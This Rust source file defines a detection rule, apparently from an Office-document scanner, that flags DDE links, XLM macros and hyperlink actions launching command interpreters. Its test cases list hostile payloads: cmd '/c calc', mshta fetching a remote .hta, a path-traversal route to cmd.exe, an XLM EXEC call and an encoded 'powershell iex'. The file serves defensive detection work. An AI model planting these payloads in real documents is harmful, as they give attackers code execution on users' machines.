//! The image runs code of the caller's choice.

use super::{Case, Part, Rule, Subject};
use crate::command::Tier;
use crate::link::Carrier;

pub(super) const RULE: Rule = Rule {
    id: "interpreter",
    weight: 95,
    part: Part::Base,
    since: "0.1.0",
    doc: "The program that would start, or one that it starts, is a command interpreter or a program that runs what \
          its arguments say (`cmd`, `powershell`, `mshta`, `regsvr32` …). Malicious whatever \
          the topic: nobody can tell a test from a probe.",
    hits: &[
        Case::dde("cmd", "/c calc"),
        Case::dde("cmd", ""),
        Case::dde("C:\\Windows\\System32\\mshta", "http://x/a.hta"),
        Case::dde(
            "MSEXCEL",
            "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe",
        ),
        Case::dde("rundll321234567890abc", "URL.dll,OpenURL calc.exe"),
        Case::dde("excel", "C:\\Windows\\System32\\cmd.exe"),
        Case::execute(Carrier::Xlm, "EXEC(\"cmd /c calc\")"),
        Case::execute(Carrier::Action, "powershell%20-NoP%20-c%20iex"),
    ],
    misses: &[
        Case::dde("Excel", "[Book1.xlsx]Sheet1"),
        Case::dde("calc", "x"),
        Case::dde("hh", "topic"),
        Case::external(Carrier::Hyperlink, "http://cmd/"),
    ],
    look,
};

fn look(subject: &Subject<'_>) -> Option<String> {
    subject.starts_a(Tier::Interpreter).map(str::to_owned)
}
